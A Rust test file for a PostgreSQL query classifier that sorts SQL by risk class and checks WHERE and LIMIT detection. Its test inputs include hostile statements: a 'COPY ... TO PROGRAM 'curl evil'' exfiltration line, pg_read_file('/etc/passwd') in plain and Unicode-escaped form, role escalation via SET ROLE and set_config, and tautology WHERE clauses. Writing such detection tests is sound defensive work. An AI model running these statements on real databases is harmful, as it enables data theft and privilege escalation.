//! Table tests for the PostgreSQL classifier.

use super::super::NoPrepared;
use super::*;

fn classify(sql: &str) -> Classification {
    PostgresClassifier.classify(sql, &NoPrepared)
}

#[test]
fn statements_get_the_class_of_their_most_dangerous_part() {
    let cases = [
        ("SELECT 1", Class::Read),
        ("select * from t where id = 1", Class::Read),
        ("INSERT INTO t VALUES (1)", Class::Write),
        ("UPDATE t SET a = 1 WHERE id = 2", Class::Write),
        ("DELETE FROM t", Class::Delete),
        ("TRUNCATE t", Class::Delete),
        ("CREATE TABLE t (id int)", Class::Ddl),
        ("DROP TABLE t", Class::Ddl),
        ("GRANT SELECT ON t TO bob", Class::Privilege),
        ("REVOKE SELECT ON t FROM bob", Class::Privilege),
        ("CREATE ROLE bob", Class::Privilege),
        ("ALTER ROLE bob SUPERUSER", Class::Privilege),
        ("DROP ROLE bob", Class::Privilege),
        ("COPY t TO STDOUT", Class::Export),
        ("COPY t TO '/tmp/x'", Class::Export),
        ("COPY t TO PROGRAM 'curl evil'", Class::Export),
        ("COPY t FROM STDIN", Class::Write),
        ("SELECT pg_read_file('/etc/passwd')", Class::Export),
        ("SELECT lo_export(1, '/tmp/x')", Class::Export),
        ("ALTER SYSTEM SET work_mem = '1GB'", Class::Admin),
        ("SET ROLE postgres", Class::Admin),
        ("SET search_path = x", Class::Session),
        ("SELECT pg_terminate_backend(42)", Class::Admin),
        ("CREATE EXTENSION dblink", Class::Admin),
        ("BEGIN", Class::Transaction),
        ("COMMIT", Class::Transaction),
        ("SHOW work_mem", Class::Session),
        ("SELECT 1; DROP TABLE t", Class::Ddl),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            Class::Delete,
        ),
        ("EXPLAIN DELETE FROM t", Class::Read),
        ("EXPLAIN ANALYZE DELETE FROM t", Class::Delete),
        ("EXPLAIN (ANALYZE) DELETE FROM t", Class::Delete),
        ("PREPARE p AS DELETE FROM t", Class::Delete),
        ("EXECUTE p", Class::Unknown),
        (
            "SELECT * FROM t WHERE id IN (SELECT pg_read_file('x'))",
            Class::Export,
        ),
        ("SELECT set_config('role', 'postgres', false)", Class::Admin),
        ("SELECT set_config('work_mem', '1GB', false)", Class::Read),
        (
            "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
            Class::Delete,
        ),
        ("this is not sql", Class::Unknown),
    ];
    for (sql, want) in cases {
        assert_eq!(classify(sql).class, want, "{sql}");
    }
}

#[test]
fn dml_reports_where_and_limit() {
    let cases = [
        ("DELETE FROM t", false, false),
        ("DELETE FROM t WHERE id = 1", true, false),
        ("UPDATE t SET a = 1", false, false),
        ("UPDATE t SET a = 1 WHERE b = 2", true, false),
        ("SELECT * FROM t WHERE a = 1 LIMIT 5", true, true),
        ("SELECT * FROM t", false, false),
        (
            "UPDATE t SET a = 1 WHERE b = 2; DELETE FROM u",
            false,
            false,
        ),
        ("TRUNCATE t", false, false),
        ("DELETE FROM t WHERE true", false, false),
        ("DELETE FROM t WHERE 1 = 1", false, false),
        ("DELETE FROM t WHERE (id = id)", false, false),
        ("DELETE FROM t WHERE id = 7 OR 'a' = 'a'", false, false),
        ("DELETE FROM t WHERE 2 > 1", false, false),
        ("DELETE FROM t WHERE NOT false", false, false),
        ("DELETE FROM t WHERE id = 7 AND 1 = 1", true, false),
        ("DELETE FROM t WHERE 1 = 2", true, false),
        ("UPDATE t SET a = 1 WHERE 1 <> 2", false, false),
    ];
    for (sql, has_where, has_limit) in cases {
        let c = classify(sql);
        assert_eq!((c.has_where, c.has_limit), (has_where, has_limit), "{sql}");
    }
}

#[test]
fn tables_schemas_and_functions_are_reported() {
    let c = classify(
        "WITH x AS (SELECT id FROM Payroll.Salaries) SELECT upper(name) FROM x JOIN \"Emp\" e ON e.id = x.id",
    );
    assert_eq!(
        c.tables,
        vec!["payroll.salaries".to_string(), "Emp".to_string()]
    );
    assert_eq!(c.schemas, vec!["payroll".to_string()]);
    assert!(c.unqualified_tables);
    assert_eq!(c.functions, vec!["upper".to_string()]);
    assert!(c.columns.contains(&"name".to_string()));
}

#[test]
fn unicode_escaped_function_names_are_decoded() {
    let c = classify("SELECT U&\"pg\\005fread_file\"('/etc/passwd')");
    assert_eq!(c.class, Class::Export, "{c:?}");
    assert_eq!(quoted_name("a\\+00005Fb"), "a_b");
    assert_eq!(quoted_name("no\\escape"), "no\\escape");
}

#[test]
fn execute_classifies_as_the_prepared_statement_when_known() {
    struct One;
    impl PreparedStatements for One {
        fn prepared_sql(&self, name: &str) -> Option<String> {
            (name == "p").then(|| "DELETE FROM t".to_string())
        }
    }
    let c = PostgresClassifier.classify("EXECUTE p", &One);
    assert_eq!(c.class, Class::Delete);
    assert!(!c.cacheable);
    let c = PostgresClassifier.classify("EXECUTE q", &One);
    assert_eq!(c.class, Class::Unknown);
    assert!(c.unknown.unknown_statement);
}

#[test]
fn parse_errors_are_unknown_and_say_why() {
    let c = classify("SELECT FROM WHERE (");
    assert_eq!(c.class, Class::Unknown);
    assert!(c.unknown.parse_error);
    assert!(c.parse_error.is_some());
}

#[test]
fn multi_statement_strings_count_each_statement() {
    let c = classify("BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;");
    assert_eq!(c.statements, 3);
    assert_eq!(c.class, Class::Write);
    assert_eq!(c.commands, vec!["BEGIN", "UPDATE", "COMMIT"]);
}

#[test]
fn statement_words_are_the_leading_words_of_the_whole_statement() {
    let sqls = [
        "CREATE TABLE t (id int, name text NOT NULL)",
        "CREATE OR REPLACE VIEW v AS SELECT * FROM t",
        "CREATE UNIQUE INDEX i ON t (a, b)",
        "CREATE TEMPORARY TABLE t AS SELECT 1",
        "ALTER TABLE lineitem ADD CONSTRAINT lineitem_pkey PRIMARY KEY (l_orderkey)",
        "COMMENT ON TABLE t IS 'x'",
        "CREATE SCHEMA s",
        "CREATE SEQUENCE s",
        "DROP FUNCTION f",
        "ALTER INDEX i RENAME TO j",
        "CREATE TYPE mood AS ENUM ('sad', 'ok')",
        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE DATABASE d",
        "PRAGMA x",
    ];
    let dialect = PostgreSqlDialect {};
    for sql in sqls {
        for statement in Parser::parse_sql(&dialect, sql).unwrap_or_default() {
            for n in 0..4 {
                assert_eq!(
                    statement_words(&statement, n),
                    leading_words(&statement.to_string(), n),
                    "{sql} ({n} words)"
                );
            }
        }
    }
}
